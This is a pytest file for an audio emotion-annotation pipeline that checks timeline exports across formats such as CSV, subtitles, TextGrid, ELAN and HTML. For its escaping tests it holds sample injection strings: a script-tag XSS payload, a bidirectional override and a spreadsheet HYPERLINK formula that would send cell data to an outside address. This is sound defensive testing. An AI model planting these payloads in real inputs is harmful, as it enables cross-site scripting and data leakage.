"""Timelines as files: each format read back by its public reader, hostile text and all."""

import csv
import io
import itertools
import json
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import numpy as np
import pysubs2
import pytest
import soundfile
from hypothesis import given, settings
from hypothesis import strategies as st
from praatio import textgrid

from lpgnet.pipeline.corpora.text import named_rows
from lpgnet.pipeline.errors import PipelineError, UsageError
from lpgnet.pipeline.recordings.transcripts import read_transcript
from lpgnet.pipeline.reports.config import PageConfig
from lpgnet.pipeline.reports.label_studio import to_label_studio
from lpgnet.pipeline.reports.page import clock, playable_copy, to_html
from lpgnet.pipeline.reports.rows import UNCERTAIN, Timeline, TimelineRow, tiers
from lpgnet.pipeline.reports.timeline import FORMATS, check_formats, output_paths, write_timeline
from tests.growth import grows_too_fast

HOSTILE = (
    "</script><script>alert(1)</script>",
    "\"quoted\" & 'so' <b>bold</b> {\\b1}",
    "مرحبا بالعالم \u202eevil",
    "two\nlines --> and an arrow",
    "back\\Nslash",
    "\x00\x07 control",
    "-->",
)
CLASSES = ("angry", "happy", "sad")


def row(index: int, text: str | None, speaker: str | None = "Ann", *, start: float | None = None) -> TimelineRow:
    label = CLASSES[index % 3]
    begin = 2.0 * index if start is None else start
    probabilities = {name: (0.7 if name == label else 0.15) for name in CLASSES}
    return TimelineRow(
        f"turn {index + 1}",
        begin,
        begin + 1.5,
        speaker,
        text,
        label,
        probabilities,
        {"text": 0.4, "audio": 0.6},
    )


@pytest.fixture
def recording(tmp_path: Path) -> Path:
    path = tmp_path / "a call.wav"
    soundfile.write(path, np.random.default_rng(0).normal(0, 0.1, 60 * 8000), 8000)
    return path


@pytest.fixture
def timeline(recording: Path) -> Timeline:
    rows = [row(0, "Hello there."), row(1, "Hi.", "Bob"), row(2, "How are you?"), row(3, "Fine.", "Bob", start=5.0)]
    return Timeline("a call", tuple(rows), recording, 60.0, ("turns: by hand",), "model")


def write(timeline: Timeline, folder: Path, *formats: str) -> dict[str, Path]:
    write_timeline(timeline, folder, formats, PageConfig())
    return output_paths(folder, timeline.name, formats)


def hostile(timeline: Timeline) -> Timeline:
    rows = [row(index, text, speaker=text[:12]) for index, text in enumerate(HOSTILE)]
    return replace(timeline, name="hostile", rows=tuple(rows))


def test_tables(timeline: Timeline, tmp_path: Path) -> None:
    paths = write(timeline, tmp_path / "out", "jsonl", "csv")
    objects = [json.loads(line) for line in paths["jsonl"].read_text(encoding="utf-8").splitlines()]
    assert [value["text"] for value in objects] == [each.text for each in timeline.rows]
    with paths["csv"].open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [float(each["p_happy"]) for each in rows] == [value["probabilities"]["happy"] for value in objects]
    assert list(rows[0])[-2:] == ["w_text", "w_audio"]


WORDS = st.text("'=+-@\t\r\n1,;\"a", min_size=1, max_size=6) | st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1
)


@given(texts=st.lists(WORDS, min_size=1, max_size=4), speaker=WORDS)
@settings(max_examples=100, deadline=None)
def test_words_in_csv_are_read_as_they_were(
    texts: list[str], speaker: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    rows = tuple(row(index, text, speaker) for index, text in enumerate(texts))
    timeline = Timeline("a", rows, None, 60.0)
    paths = write(timeline, tmp_path_factory.mktemp("out"), "csv")
    found = [each for _, each in named_rows(paths["csv"].read_bytes().decode(), paths["csv"])]
    assert [(each["text"], each["speaker"]) for each in found] == [(text, speaker) for text in texts]


def test_formulas_in_csv(timeline: Timeline, tmp_path: Path) -> None:
    evil = replace(timeline, rows=(row(0, '=HYPERLINK("http://a.b/"&A1,"c")', "@Ann"), row(1, "-1.5", "Bob")))
    path = write(evil, tmp_path, "csv")["csv"]
    assert "\nturn 1,0.000,1.500,'@Ann,\"'=HYPERLINK" in path.read_text(encoding="utf-8")
    assert "\nturn 2,2.000,3.500,Bob,-1.5,happy" in path.read_text(encoding="utf-8")
    assert [turn.text for turn in read_transcript(path).turns] == [each.text for each in evil.rows]
    assert [turn.speaker for turn in read_transcript(path).turns] == ["@Ann", "Bob"]
    write_timeline(evil, tmp_path, ["csv"], PageConfig(), csv_raw=True)
    assert '\nturn 1,0.000,1.500,@Ann,"=HYPERLINK' in path.read_text(encoding="utf-8")


@pytest.mark.parametrize("form", ["srt", "vtt"])
def test_subtitles_load_in_pysubs2(timeline: Timeline, tmp_path: Path, form: str) -> None:
    path = write(timeline, tmp_path, form)[form]
    events = pysubs2.load(str(path)).events
    assert [event.start for event in events] == sorted(round(each.start * 1000) for each in timeline.rows)
    assert all(
        f"[{each.label}]" in event.text for each, event in zip(timeline.rows, events, strict=False) if form == "srt"
    )


@pytest.mark.parametrize("form", ["srt", "vtt", "textgrid", "eaf", "rttm"])
def test_what_is_written_is_read_as_a_transcript(timeline: Timeline, tmp_path: Path, form: str) -> None:
    turns = read_transcript(write(timeline, tmp_path, form)[form], recording="a_call").turns
    expected = sorted(timeline.rows, key=lambda each: each.start)
    assert [(turn.start, turn.end) for turn in turns] == [(each.start, each.end) for each in expected]
    assert [turn.speaker for turn in turns] == [each.speaker for each in expected]
    if form in ("srt", "vtt"):
        assert [turn.text for turn in turns] == [f"[{each.label}] {each.text}" for each in expected]
    elif form != "rttm":
        assert [turn.text for turn in turns] == [each.text for each in expected]


def test_textgrid_loads_in_praatio(timeline: Timeline, tmp_path: Path) -> None:
    overlapping = (*timeline.rows, row(4, "And", start=4.5))
    path = write(replace(timeline, rows=overlapping), tmp_path, "textgrid")["textgrid"]
    assert path.suffix == ".TextGrid"
    grid = textgrid.openTextgrid(str(path), includeEmptyIntervals=False)
    assert grid.tierNames == ("Ann", "Ann emotion", "Bob", "Bob emotion", "Ann 2", "Ann 2 emotion")
    assert grid.maxTimestamp == 60.0
    assert [tuple(entry) for entry in grid.getTier("Bob emotion").entries] == [(2.0, 3.5, "happy"), (5.0, 6.5, "angry")]


def test_eaf_loads_in_pympi_and_is_linked(timeline: Timeline, tmp_path: Path) -> None:
    pympi = pytest.importorskip("pympi")
    path = write(timeline, tmp_path, "eaf")["eaf"]
    document = pympi.Elan.Eaf(str(path))
    assert set(document.get_tier_names()) == {"Ann", "Ann emotion", "Bob", "Bob emotion"}
    assert document.get_annotation_data_for_tier("Ann emotion") == [(0, 1500, "angry"), (4000, 5500, "sad")]
    (linked,) = document.get_linked_files()
    assert linked["MEDIA_URL"] == timeline.recording.resolve().as_uri()
    assert linked["MIME_TYPE"] == "audio/x-wav"
    assert linked["RELATIVE_MEDIA_URL"] == f"./{timeline.recording.name}"
    further = write(timeline, tmp_path / "out" / "further", "eaf")["eaf"]
    (linked,) = pympi.Elan.Eaf(str(further)).get_linked_files()
    assert (further.parent / linked["RELATIVE_MEDIA_URL"]).resolve() == timeline.recording.resolve()


def test_rttm_has_ten_fields(timeline: Timeline, tmp_path: Path) -> None:
    lines = write(timeline, tmp_path, "rttm")["rttm"].read_text().splitlines()
    assert lines[1].split() == ["SPEAKER", "a_call", "1", "2.000", "1.500", "<NA>", "happy", "Bob", "0.7000", "<NA>"]
    assert {len(line.split()) for line in lines} == {10}


def test_label_studio_shows_every_turn(timeline: Timeline, tmp_path: Path) -> None:
    """Of a turn, the controls for regions get its emotion with the probability, its speaker and its words."""
    rows = (replace(timeline.rows[0], channel=1), replace(timeline.rows[1], speaker=None, text=None))
    recording = tmp_path / "in" / "calls" / "a call.wav"
    named = replace(timeline, rows=rows, name="calls/a call", recording=recording)
    path = write(named, tmp_path, "labelstudio")["labelstudio"]
    assert path == tmp_path / "calls" / "a call.labelstudio.json"
    (task,) = json.loads(path.read_text(encoding="utf-8"))
    assert task["data"] == {"audio": "/data/local-files/?d=in/calls/a%20call.wav"}
    hidden = to_label_studio(replace(named, name="a call", beside=True))
    assert "d=recordings/a%20call.wav" in hidden, "where the served page keeps it is nobody's business"
    (prediction,) = task["predictions"]
    assert prediction["score"] == pytest.approx(0.7)
    first, speaker, words, second = prediction["result"]
    assert first == {
        "id": "calls/a call turn 1",
        "from_name": "emotion",
        "to_name": "audio",
        "type": "labels",
        "original_length": 60.0,
        "value": {"start": 0.0, "end": 1.5, "channel": 1, "labels": ["angry"]},
        "score": 0.7,
    }
    assert (speaker["from_name"], speaker["type"], speaker["value"]["text"]) == ("speaker", "textarea", ["Ann"])
    assert (words["from_name"], words["value"]["text"], words["id"]) == ("text", ["Hello there."], first["id"])
    assert second["id"] != first["id"] and second["value"]["channel"] == 0


def test_audacity_has_a_label_a_turn(timeline: Timeline, tmp_path: Path) -> None:
    rows = (timeline.rows[0], row(1, "two\nlines\tand a tab", None), row(2, None, "Bob\t"))
    path = write(replace(timeline, rows=rows), tmp_path, "audacity")["audacity"]
    assert path.name == "a call.audacity.txt"
    assert path.read_text(encoding="utf-8").split("\n") == [
        "0.000000\t1.500000\tAnn: [angry 70%] Hello there.",
        "2.000000\t3.500000\t[happy 70%] two lines and a tab",
        "4.000000\t5.500000\tBob: [sad 70%]",
        "",
    ]


def test_an_uncertain_turn_in_every_format(timeline: Timeline, tmp_path: Path) -> None:
    """It has no emotion, and its probabilities stay."""
    rows = (timeline.rows[0], replace(timeline.rows[1], label=UNCERTAIN))
    paths = write(replace(timeline, rows=rows), tmp_path, *check_formats("all"))
    for form, path in paths.items():
        assert UNCERTAIN in path.read_text(encoding="utf-8"), form
    value = json.loads(paths["jsonl"].read_text(encoding="utf-8").splitlines()[1])
    assert (value["label"], value["probabilities"]["happy"]) == (UNCERTAIN, 0.7)
    assert "[uncertain 70%]" in paths["audacity"].read_text(encoding="utf-8")


def test_no_words_and_no_names(timeline: Timeline, tmp_path: Path) -> None:
    bare = replace(timeline, rows=tuple(replace(each, text=None, speaker=None) for each in timeline.rows))
    paths = write(bare, tmp_path, *check_formats("all"))
    assert textgrid.openTextgrid(str(paths["textgrid"]), False).tierNames == ("speech emotion", "speech 2 emotion")
    assert all(path.stat().st_size > 0 for path in paths.values())
    assert [turn.text for turn in read_transcript(paths["eaf"]).turns] == [None] * len(bare.rows)


def test_hostile_text_in_every_format(timeline: Timeline, tmp_path: Path) -> None:
    paths = write(hostile(timeline), tmp_path, *check_formats("all"))
    assert len(pysubs2.load(str(paths["srt"])).events) == len(HOSTILE)
    assert paths["vtt"].read_text(encoding="utf-8").count("-->") == len(HOSTILE)
    words = " ".join(event.text for event in pysubs2.load(str(paths["srt"]), keep_html_tags=True).events)
    assert "<b>bold</b> {\\\u200bb1}" in words
    assert "مرحبا" in words
    textgrid.openTextgrid(str(paths["textgrid"]), False)
    values = [each.text for each in ElementTree.parse(paths["eaf"]).getroot().iter("ANNOTATION_VALUE")]
    assert HOSTILE[0] in values
    with paths["csv"].open(newline="", encoding="utf-8") as file:
        assert next(csv.DictReader(file))["text"] == HOSTILE[0]


class _Scripts(HTMLParser):
    """Counts script elements and collects words, as a browser would."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts, self.words = 0, io.StringIO()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"

    def handle_data(self, data: str) -> None:
        self.words.write(data)


def parsed(page: str) -> _Scripts:
    parser = _Scripts()
    parser.feed(page)
    return parser


def test_hostile_text_is_text_in_the_page(timeline: Timeline, tmp_path: Path) -> None:
    page = to_html(hostile(timeline), tmp_path, PageConfig())
    assert parsed(page).scripts == parsed(to_html(timeline, tmp_path, PageConfig())).scripts == 2
    assert all(text.replace("\x00", "") in parsed(page).words.getvalue().replace("\x00", "") for text in HOSTILE[:3])


@settings(max_examples=25, deadline=None)
@given(
    text=st.text(max_size=40), name=st.text(max_size=20), label=st.sampled_from(["</script>", "<!--", "ok", "\u2028"])
)
def test_no_text_ends_the_script(text: str, name: str, label: str) -> None:
    probabilities = {label: 1.0}
    rows = (TimelineRow("turn 1", 0.0, 1.0, name or None, text or None, label, probabilities, {}),)
    page = to_html(Timeline(name or "x", rows, None, 1.0, (text,)), Path(), PageConfig())
    assert parsed(page).scripts == 2


def test_the_page_names_no_address(timeline: Timeline, tmp_path: Path) -> None:
    page = to_html(timeline, tmp_path, PageConfig())
    assert re.findall(r"https?://[^\s\"']+", page) == ["http://www.w3.org/2000/svg"], "a name space, not an address"
    assert 'src="data:audio/wav;base64,' in page


def test_a_large_recording_is_linked(timeline: Timeline, tmp_path: Path) -> None:
    page = to_html(timeline, tmp_path / "out", PageConfig(embed_megabytes=0.1))
    assert 'src="../a%20call.wav"' in page
    assert "base64" not in page


@pytest.mark.parametrize("subtype", ["ALAW", "ULAW", "IMA_ADPCM"])
def test_what_browsers_do_not_play_is_compressed(timeline: Timeline, tmp_path: Path, subtype: str) -> None:
    path = tmp_path / "telephone.wav"
    soundfile.write(path, np.random.default_rng(0).normal(0, 0.1, 8000 * 2), 8000, subtype=subtype)
    assert 'src="data:audio/ogg;base64,' in to_html(replace(timeline, recording=path), tmp_path, PageConfig())


def test_a_playable_copy(timeline: Timeline, tmp_path: Path) -> None:
    """As it is where browsers play that, under the suffix of what it is; else compressed."""
    waveform = np.random.default_rng(0).normal(0, 0.1, 8000 * 2)
    for name, subtype, suffix in (("a.rec", "PCM_16", ".wav"), ("b.wav", "ALAW", ".ogg"), ("c.csv", "ULAW", ".ogg")):
        soundfile.write(tmp_path / name, waveform, 8000, subtype=subtype, format="WAV")
        copy = playable_copy(tmp_path / name, tmp_path, "call")
        assert copy == tmp_path / f"call{suffix}"
        assert (copy.read_bytes() == (tmp_path / name).read_bytes()) == (suffix == ".wav")
        assert soundfile.info(copy).duration == pytest.approx(2.0, abs=0.1)


def test_formats_by_name() -> None:
    assert check_formats("jsonl, HTML,jsonl") == ("jsonl", "html")
    assert check_formats("all") == (*FORMATS, "html")
    with pytest.raises(UsageError, match="did you mean 'textgrid'"):
        check_formats("textgird")
    with pytest.raises(UsageError, match="at least one"):
        check_formats(",")


def test_a_folder_that_cannot_be_written(timeline: Timeline, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(PipelineError, match="cannot be written"):
        write(timeline, tmp_path / "file" / "out", "csv")


def test_tiers_do_not_overlap() -> None:
    rows = [row(index, "x", start=0.5 * index) for index in range(8)]
    found = tiers(rows)
    assert sum(map(len, found.values())) == 8
    assert all(a.end <= b.start for tier in found.values() for a, b in itertools.pairwise(tier))


@given(st.lists(st.tuples(st.integers(0, 20), st.integers(1, 9), st.sampled_from("AB")), min_size=1, max_size=30))
def test_a_turn_is_in_the_first_tier_that_has_room(spans: list[tuple[int, int, str]]) -> None:
    rows = [replace(row(0, "x", speaker), start=start, end=start + length) for start, length, speaker in spans]
    expected: dict[str, list[TimelineRow]] = {}
    for each in sorted(rows, key=lambda each: each.start):
        names = itertools.chain([each.speaker], (f"{each.speaker} {number}" for number in itertools.count(2)))
        name = next(name for name in names if name not in expected or expected[name][-1].end <= each.start)
        expected.setdefault(name, []).append(each)
    assert tiers(rows) == expected


def test_tiers_of_all_speakers_have_names_of_their_own() -> None:
    rows = [row(0, "x", start=0.0), row(1, "x", start=1.0), row(2, "x", "Ann 2", start=9.0)]
    assert list(tiers(rows)) == ["Ann", "Ann 2", "Ann 2 (2)"]


def test_tiers_take_no_more_time_than_they_have_turns() -> None:
    def sort(text: str) -> None:
        tiers([row(index, "x", start=index * 1e-4) for index in range(len(text))])

    assert not grows_too_fast(sort, "x".__mul__)


@pytest.mark.parametrize("form", ["textgrid", "eaf"])
def test_tiers_are_bounded(form: str, tmp_path: Path) -> None:
    rows = tuple(row(0, "x", f"Ann{' ' * index}") for index in range(1001))
    with pytest.raises(PipelineError, match=r"^a: needs 1001 tiers.*; at most 1000 are written"):
        write(Timeline("a", rows, None, 60.0), tmp_path, form)
    write(Timeline("a", rows[1:], None, 60.0), tmp_path, form)


def test_clock() -> None:
    assert [clock(seconds) for seconds in (0, 7.9, 65, 3723)] == ["0:00", "0:07", "1:05", "1:02:03"]


def written(timeline: Timeline, folder: Path, form: str) -> Path:
    return write(timeline, folder, form)[form]


NOTES = ("The model was trained on <b>x</b> --> y.", "warning: a --> b\n\nNOTE c")


@pytest.fixture
def noted(timeline: Timeline) -> Timeline:
    return replace(timeline, about_model=NOTES, choices=("turns: by hand", "warning: unlike anything"))


def test_what_the_model_is_good_for_is_said_at_the_head_of_the_page(noted: Timeline, tmp_path: Path) -> None:
    head = to_html(noted, tmp_path, PageConfig()).partition("</header>")[0]
    assert "trained on &lt;b&gt;x&lt;/b&gt; --&gt; y." in head
    assert head.count('<strong class="note">warning: ') == 2 and "unlike anything" in head


def test_it_is_a_comment_where_the_format_has_comments(noted: Timeline, timeline: Timeline, tmp_path: Path) -> None:
    vtt, plain = (written(one, tmp_path / str(n), "vtt") for n, one in enumerate((noted, timeline)))
    text = vtt.read_text(encoding="utf-8")
    assert text.startswith(
        "WEBVTT\n\nNOTE\nThe model was trained on <b>x</b> -> y.\n"
        "warning: a -> b NOTE c\nwarning: unlike anything\n\n1\n"
    )
    assert text.partition("unlike anything\n")[2] == plain.read_text(encoding="utf-8").partition("WEBVTT\n")[2]
    (note,) = ElementTree.fromstring(written(noted, tmp_path, "eaf").read_bytes()).findall(".//PROPERTY[@NAME='notes']")
    assert note.text == "The model was trained on <b>x</b> --> y. warning: a --> b NOTE c warning: unlike anything"


@pytest.mark.parametrize("form", ["vtt", "eaf"])
def test_a_comment_is_no_turn_where_the_file_is_read(
    form: str, noted: Timeline, timeline: Timeline, tmp_path: Path
) -> None:
    read = [read_transcript(written(one, tmp_path / str(n), form)) for n, one in enumerate((noted, timeline))]
    assert read[0].turns == read[1].turns and read[0].warnings == read[1].warnings == ()


@pytest.mark.parametrize("form", ["jsonl", "csv", "srt", "textgrid", "rttm"])
def test_formats_without_comments_stay_as_they_are(
    form: str, noted: Timeline, timeline: Timeline, tmp_path: Path
) -> None:
    assert written(noted, tmp_path / "noted", form).read_bytes() == written(timeline, tmp_path, form).read_bytes()
